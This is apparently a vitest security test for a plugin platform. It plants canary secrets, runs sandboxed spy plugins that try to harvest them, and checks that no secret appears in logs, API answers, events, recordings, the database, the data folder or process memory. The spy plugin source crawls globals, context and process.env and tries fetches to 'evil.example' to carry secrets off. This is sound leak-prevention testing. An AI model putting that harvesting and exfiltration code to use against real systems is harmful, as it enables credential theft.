import type { PluginPackage } from "@fitglue/registry";
import { decodeTape } from "@fitglue/sandbox";
import { sql } from "kysely";
import { createSecretKey } from "node:crypto";
import type { IncomingHttpHeaders, ServerResponse } from "node:http";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { WebSocket } from "ws";
import type { Upload } from "../src/api/activities.ts";
import type { PipelineDetail } from "../src/api/pipelines.ts";
import type { RunDetail, RunSummary } from "../src/api/runs.ts";
import { httpServer, type LoopbackServer } from "../src/host-calls/loopback-server.fixture.ts";
import { MASK } from "../src/host-calls/mask-secrets.ts";
import { apiBrowser, type ApiBrowser, type BrowserAnswer } from "./api-browser.ts";
import { canarySearch, canReadMemory, newCanary } from "./canary-secrets.ts";
import { PERSON } from "./http-app.ts";
import { ownPlugin, testPlugin } from "./test-plugin.ts";
import { pipelineDocument, sampleFile, until } from "./test-runtime.ts";
import { openWholeApp, type WholeApp } from "./whole-app.ts";

/**
 * Secrets are planted in a running system, plugins do what they can to get at them and to carry them off, and then
 * everything that a plugin, a person or an operator can look at is searched.
 */
const MASTER_KEY = newCanary("master").slice(0, 32);
const CANARIES = {
  apiKey: newCanary("apikey"),
  accessToken: newCanary("access"),
  refreshToken: newCanary("refresh"),
  clientSecret: newCanary("client"),
  setting: newCanary("setting"),
  masterKey: MASTER_KEY,
  databaseUrl: newCanary("database"),
  sessionSecret: newCanary("session"),
  environment: newCanary("environment"),
};
/** Planted in the plugins themselves: what does not find this finds nothing. */
const MARKER = newCanary("marker");
const search = canarySearch(CANARIES);
const markers = canarySearch({ marker: MARKER });

let echo: LoopbackServer;
let whole: WholeApp;
let address: string;
let browser: ApiBrowser;
let runs: RunDetail[];
/** What the service got. */
const received: IncomingHttpHeaders[] = [];
/** What the server logged, and said over its socket and its API. */
const logged: string[] = [];
const events: string[] = [];
const answered: string[] = [];

beforeAll(async () => {
  vi.stubEnv("FITGLUE_TEST_CANARY", CANARIES.environment);
  echo = await httpServer((request, response) => {
    received.push(request.headers);
    echoAnswer(request.headers, request.url ?? "", response);
  });
  const logger = pino({ level: "trace" }, { write: (line: string) => void logged.push(line) });
  whole = await openWholeApp({
    plugins: [...(await Promise.all(["file-upload", "showcase"].map(ownPlugin))), ...spies(echo.port)],
    databaseUrl: (url) => url.searchParams.set("fallback_application_name", CANARIES.databaseUrl),
    masterKeys: [{ id: "canary", key: createSecretKey(Buffer.from(MASTER_KEY)) }],
    oauthClients: new Map([["test/spy-oauth", { id: "client", secret: CANARIES.clientSecret }]]),
    egress: {
      resolveName: () => Promise.resolve(["127.0.0.1"]),
      isAllowedAddress: (each) => each === "127.0.0.1",
      endpoint: { protocol: "http:", port: echo.port },
    },
    sessionSecret: CANARIES.sessionSecret,
    logger,
  });
  await whole.runtime.services.start();
  address = await whole.app.listen({ host: "127.0.0.1", port: 0 });
  browser = apiBrowser(address);
  runs = await runSpies();
}, 240_000);

afterAll(async () => {
  await whole.close();
  await echo.close();
  vi.unstubAllEnvs();
});

describe("the secrets were there to be taken:", () => {
  test("the services got them, signed by the host", () => {
    const sent = JSON.stringify(received);
    for (const name of ["apiKey", "accessToken", "setting"] as const) expect(sent, name).toContain(CANARIES[name]);
    expect(sent).not.toContain(CANARIES.refreshToken);
  });

  test("the plugins asked for them, and what they carried off was found", () => {
    expect(runs.map(({ run }) => run.state)).toEqual(["done", "done", "failed"]);
    const shown = JSON.stringify(runs);
    expect(shown).toContain(MASK);
    expect(shown).toContain("fitglue-secret:");
    expect(markers.inText(shown)).toEqual(["marker"]);
  });
});

describe("no secret is in", () => {
  test("what the API answers", () => {
    expect(answered.length).toBeGreaterThan(20);
    expect(markers.inText(answered.join("\n"))).toEqual(["marker"]);
    for (const text of answered) expect(search.inText(text), text.slice(0, 200)).toEqual([]);
  });

  test("live events", () => {
    expect(events.length).toBeGreaterThan(5);
    expect(markers.inText(events.join("\n"))).toEqual(["marker"]);
    expect(search.inText(events.join("\n"))).toEqual([]);
  });

  test("the log", () => {
    expect(logged.length).toBeGreaterThan(20);
    expect(search.inText(logged.join("\n"))).toEqual([]);
  });

  test("recordings, as they are downloaded and as they are decoded", async () => {
    let decoded = 0;
    for (const { run, steps } of runs)
      for (const step of steps) {
        const response = await fetch(`${address}/api/v1/runs/${run.id}/steps/${step.id}/tape`, {
          headers: browser.headers(),
        });
        if (!response.ok) continue;
        const bytes = Buffer.from(await response.arrayBuffer());
        const tape = await decodeTape(bytes);
        expect(search.inBytes(bytes)).toEqual([]);
        expect(search.inText(JSON.stringify(tape))).toEqual([]);
        for (const event of tape.events)
          if (event.type === "answer")
            for (const array of event.arrays) expect(search.inBytes(Buffer.from(array.buffer))).toEqual([]);
        if (
          tape.events.some(({ type, ...event }) => type === "call" && "name" in event && event.name.includes("fetch"))
        )
          decoded++;
      }
    expect(decoded).toBeGreaterThanOrEqual(3);
  });

  test("the database", async () => {
    const { rows: tables } = await sql<{ name: string }>`
      select format('%I.%I', table_schema, table_name) as name from information_schema.tables
      where table_schema not in ('pg_catalog', 'information_schema') and table_type = 'BASE TABLE'`.execute(
      whole.database.db,
    );
    let hasMarker = false;
    for (const { name } of tables) {
      const { rows } = await sql<{ text: string }>`select t::text as text from ${sql.raw(name)} t`.execute(
        whole.database.db,
      );
      for (const { text } of rows) {
        expect(search.inText(text), name).toEqual([]);
        hasMarker ||= text.includes(MARKER);
      }
    }
    expect(tables.length).toBeGreaterThan(20);
    expect(hasMarker).toBe(true);
  });

  test("the data folder", async () => {
    expect(await search.inFolder(whole.folder)).toEqual([]);
  });

  test("an error that the API answers with, whatever it was sent", async () => {
    const wrong = pipelineDocument([{ plugin: "test/spy@1.0.0", config: { token: `${CANARIES.setting} broken` } }], []);
    const refused = await answerOf("POST", "/api/v1/pipelines", { name: "Wrong", document: wrong });
    expect(refused).toMatchObject({ status: 422 });
    expect(search.inText(refused.text)).toEqual([]);
  });

  test(
    "the memory, the environment or the arguments of a sandbox process that ran the plugins",
    { timeout: 120_000 },
    async (context) => {
      const { processes } = (await whole.runtime.services.health()).sandbox;
      const pids = processes.map(({ pid }) => pid);
      expect(pids.length).toBeGreaterThan(0);
      if (!(await canReadMemory(pids[0] ?? 0))) context.skip("this machine does not let a test read another's memory");
      const found = await Promise.all(pids.map((pid) => search.inProcess(pid)));
      expect(found.flat()).toEqual([]);
      // The plugins' own words are there, so the search can find what is.
      const ran = await Promise.all(pids.map((pid) => markers.inProcess(pid)));
      expect(ran.flat()).toContain("marker");
    },
  );
});

test("a form that a plugin shows while it runs cannot ask for a secret", () => {
  expect(runs[2]?.steps.find(({ id }) => id === "asks")?.error).toMatchObject({ code: "RESULT_INVALID" });
});

/** Repeats all that it was sent, in every spelling that comes to mind. */
function echoAnswer(headers: IncomingHttpHeaders, url: string, response: ServerResponse): void {
  if (url.startsWith("/refuse")) {
    response.writeHead(500, { "x-echo": JSON.stringify(headers) }).end(JSON.stringify(headers));
    return;
  }
  const values = Object.values(headers).flat().map(String);
  const all = [url, ...values];
  response.writeHead(200, { "x-echo": all.join(" "), "set-cookie": all.join(" ").replaceAll(";", "") }).end(
    JSON.stringify({
      headers,
      base64: all.map((value) => Buffer.from(value).toString("base64")),
      hex: all.map((value) => Buffer.from(value).toString("hex")),
      encoded: all.map(encodeURIComponent),
    }),
  );
}

/** Plugins that look everywhere, and put what they find wherever they may. */
function spies(port: number): PluginPackage[] {
  const look = `
    const marker = ${JSON.stringify(MARKER)};
    const seen = new Set();
    const words = [];
    function look(value, depth) {
      if (depth > 6 || words.length > 4000) return;
      try {
        if (typeof value === "string") words.push(value.slice(0, 400));
        if (typeof value === "function") words.push(String(value).slice(0, 200));
        if ((typeof value !== "object" && typeof value !== "function") || value === null || seen.has(value)) return;
        seen.add(value);
        for (const key of Reflect.ownKeys(value)) {
          words.push(String(key));
          try { look(value[key], depth + 1); } catch (error) { words.push(String(error), String(error && error.stack)); }
        }
        look(Object.getPrototypeOf(value), depth + 1);
      } catch (error) { words.push(String(error)); }
    }
    async function attempt(make) {
      try { const answer = await make(); look(answer, 0); return JSON.stringify(answer); }
      catch (error) { look(error, 0); return String(error) + String(error.stack) + JSON.stringify(error); }
    }
    async function spy(ctx) {
      look(globalThis, 0);
      look(ctx, 0);
      look(new Error("x").stack, 0);
      const at = (host, path) => "http://" + host + ":${String(port)}" + path;
      const found = [marker, JSON.stringify(ctx.config)];
      const token = ctx.config.token || "none";
      for (const path of ["/echo?a=1", "/refuse", "//evil.example/x"]) {
        if (ctx.connection) {
          found.push(await attempt(() => ctx.connection.fetch(at("api.example", path))));
          found.push(await attempt(() => ctx.connection.fetch(at("api.example", path), { method: "POST", body: "x", as: "bytes" }).then(({ body }) => Array.from(body, (byte) => String.fromCharCode(byte)).join(""))));
        }
        if (ctx.fetch) found.push(await attempt(() => ctx.fetch(at("open.example", path), { headers: { authorization: "Bearer " + token, "x-other": token } })));
      }
      if (ctx.connection) {
        found.push(await attempt(() => ctx.connection.fetch(at("evil.example", "/echo"))));
        found.push(await attempt(() => ctx.connection.fetch(at("api.example", "/echo"), { headers: { authorization: "mine" } })));
        found.push(await attempt(() => ctx.connection.fetch("/echo")));
      }
      const environment = await attempt(() => process.env);
      const all = found.join("\\n") + environment + words.join(" ");
      for (let start = 0; start < Math.min(all.length, 40000); start += 4000) ctx.log.info(all.slice(start, start + 4000), { words: all.slice(start, start + 1000) });
      console.log(marker, all.slice(0, 4000));
      ctx.progress(0.5, (marker + all).slice(0, 200));
      if (ctx.state) await attempt(() => ctx.state.set("found", all.slice(0, 60000)));
      if (ctx.assets) await attempt(() => ctx.assets.put("<svg xmlns='http://www.w3.org/2000/svg'><title>" + marker + all.replace(/[^A-Za-z0-9 +/=:.-]/g, " ").slice(0, 20000) + "</title></svg>", { type: "image/svg+xml", alt: (marker + all).slice(0, 400) }));
      return all;
    }`;
  const result = { type: "object", properties: { all: { type: "string" } } } as const;
  const settings = {
    version: 1,
    schema: {
      type: "object",
      properties: { token: { type: "string", title: "Token", "x-secret": true } },
      additionalProperties: false,
    },
  } as const;
  const capabilities = {
    network: [{ host: "open.example", methods: ["GET", "POST"], reason: "Test" }],
    state: { maxKb: 256, reason: "Test" },
    assets: { types: ["image/svg+xml"], maxKb: 64, reason: "Test" },
  } as NonNullable<Parameters<typeof testPlugin>[0]["capabilities"]>;
  const run = `${look} return { booster: { async run(ctx) {
    const all = await spy(ctx);
    return { outcome: "ok", patch: { notes: marker + all.slice(0, 5000) }, result: { all: all.slice(0, 200000) }, section: { icon: null, heading: marker.slice(0, 60), layout: "block", blocks: [{ type: "text", paragraphs: [all.slice(0, 1000)] }] } };
  } } }`;
  const booster: NonNullable<Parameters<typeof testPlugin>[0]["booster"]> = {
    requires: ["title"],
    provides: ["notes"],
    config: settings,
    result,
  };
  const auths = {
    spy: { type: "apiKey", in: "header", name: "x-api-key", prefix: "Key ", label: "Key" },
    "spy-query": { type: "apiKey", in: "query", name: "key", label: "Key" },
    "spy-oauth": { type: "oauth2", authorizeUrl: "https://x.example/", tokenUrl: "https://x.example/", scopes: [] },
  } as const;
  const connected = Object.entries(auths).map(([id, auth]) => {
    const plugin = testPlugin({ id, capabilities, booster, code: run });
    const connection = { auth, hosts: ["api.example"], setup: ["Connect"], errors: [] };
    return { ...plugin, manifest: { ...plugin.manifest, connection } } as unknown as PluginPackage;
  });
  return [
    ...connected,
    testPlugin({
      id: "spy-throws",
      capabilities,
      booster,
      code: `${look} return { booster: { async run(ctx) { throw new Error(marker + await spy(ctx)); } } }`,
    }),
    testPlugin({
      id: "asks",
      booster: { ...booster, waitsForInput: true },
      code: `return { booster: { run: () => ({ outcome: "wait", form: { title: "T", message: "M", schema: { type: "object", additionalProperties: false, properties: { key: { type: "string", title: "Key", "x-secret": true } } } } }) } }`,
    }),
    testPlugin({
      id: "spy-sends",
      capabilities,
      destination: { config: settings },
      code: `${look} return { destination: { async deliver(ctx) { const all = await spy(ctx); return { outcome: "delivered", externalId: (marker + all).slice(0, 400), url: null }; } } }`,
    }),
  ].map((plugin) => ({ ...plugin, trust: "standard" as const }));
}

/** Somebody signs up, connects, makes pipelines, uploads a file for each, and looks at everything there is. */
async function runSpies(): Promise<RunDetail[]> {
  await answerOf("POST", "/api/auth/sign-up/email", PERSON);
  const { rows } = await sql<{ id: string }>`select id from auth."user"`.execute(whole.database.db);
  const accountId = rows[0]?.id ?? "";
  const manifestOf = (id: string) => whole.runtime.services.registry.resolve(`test/${id}@1.0.0`).manifest;
  const { connections } = whole.runtime;
  await connections.connect(accountId, manifestOf("spy"), { credentials: { type: "apiKey", key: CANARIES.apiKey } });
  await connections.connect(accountId, manifestOf("spy-query"), {
    credentials: { type: "apiKey", key: CANARIES.apiKey },
  });
  await connections.connect(accountId, manifestOf("spy-oauth"), {
    credentials: {
      type: "oauth2",
      accessToken: CANARIES.accessToken,
      refreshToken: CANARIES.refreshToken,
      expiresAtMs: null,
    },
  });
  await ask("GET", "/api/v1/connections");
  await ask("POST", "/api/v1/connections/test/spy-oauth/authorize", { history: false });
  const socket = new WebSocket(`${address.replace("http", "ws")}/ws`, { headers: { ...browser.headers() } });
  await new Promise((resolve) => socket.once("open", resolve));
  socket.on("message", (data: Buffer) => void events.push(data.toString("utf8")));

  const config = { token: CANARIES.setting };
  const step = (id: string, onError: "continue" | "stop" = "continue") => ({
    plugin: `test/${id}@1.0.0`,
    config,
    onError,
  });
  const page = { plugin: "fitglue/showcase@1.0.0", config: { visibility: "public" } };
  const details: RunDetail[] = [];
  for (const [file, boosters] of [
    ["lake-ride.gpx", [step("spy"), step("spy-query"), step("spy-throws")]],
    ["morning-park-run.fit", [step("spy-oauth")]],
    ["strength-push-day.fit", [step("asks", "stop")]],
  ] as const) {
    const document = pipelineDocument(boosters, [step("spy-sends"), page]);
    const made = await ask<PipelineDetail>("POST", "/api/v1/pipelines", { name: MARKER, document });
    await ask("PUT", `/api/v1/pipelines/${made.id}/draft`, { draftVersion: made.draftVersion, document: made.draft });
    await ask("POST", `/api/v1/pipelines/${made.id}/publish`);
    const form = new FormData();
    form.set("pipelineId", made.id);
    form.append("files", new Blob([new Uint8Array(await sampleFile(file))]), file);
    const { id } = await ask<Upload>("POST", "/api/v1/uploads", form);
    const upload = await until(
      () => ask<Upload>("GET", `/api/v1/uploads/${id}`),
      ({ state }) => state === "done",
    );
    const runId = upload.files[0]?.runIds[0] ?? "";
    socket.send(JSON.stringify({ subscribe: `run:${runId}`, after: 0 }));
    const detail = await until(
      () => ask<RunDetail>("GET", `/api/v1/runs/${runId}`),
      ({ run }) => run.state === "done" || run.state === "failed",
      60_000,
    );
    details.push(detail);
    // A test of a document that was never saved, with the secret in the open.
    const { activityId } = detail.run;
    const { id: testId } = await ask<RunSummary>("POST", `/api/v1/pipelines/${made.id}/test`, { activityId, document });
    await until(
      () => ask<RunDetail>("GET", `/api/v1/runs/${testId}`),
      ({ run }) => run.state === "done" || run.state === "failed",
      60_000,
    );
    for (const path of [
      `/api/v1/pipelines/${made.id}`,
      `/api/v1/pipelines/${made.id}/revisions`,
      `/api/v1/pipelines/${made.id}/share`,
      `/api/v1/activities/${detail.run.activityId}`,
      `/api/v1/runs/${runId}`,
    ])
      await answerOf("GET", path);
  }
  for (const path of [
    "pipelines",
    "runs",
    "activities",
    "uploads",
    "showcase",
    "plugins",
    "home",
    "settings",
    "session",
  ])
    await answerOf("GET", `/api/v1/${path}`);
  for (const path of ["/metrics", "/readyz", "/livez", "/api/v1/openapi.json"]) await answerOf("GET", path);
  await vi.waitFor(() => expect(events.some((event) => event.includes('"failed"'))).toBe(true));
  socket.close();
  return details;
}

async function ask<Answer>(method: string, path: string, body?: object): Promise<Answer> {
  const { status, text } = await answerOf(method, path, body);
  expect(status, `${method} ${path}: ${text.slice(0, 500)}`).toBeLessThan(300);
  return (text === "" ? null : JSON.parse(text)) as Answer;
}

/** Asks, and keeps what was answered. */
async function answerOf(method: string, path: string, body?: object): Promise<BrowserAnswer> {
  const answer = await browser.send(method, path, body);
  answered.push(`${JSON.stringify([...answer.headers])}\n${answer.text}`);
  return answer;
}
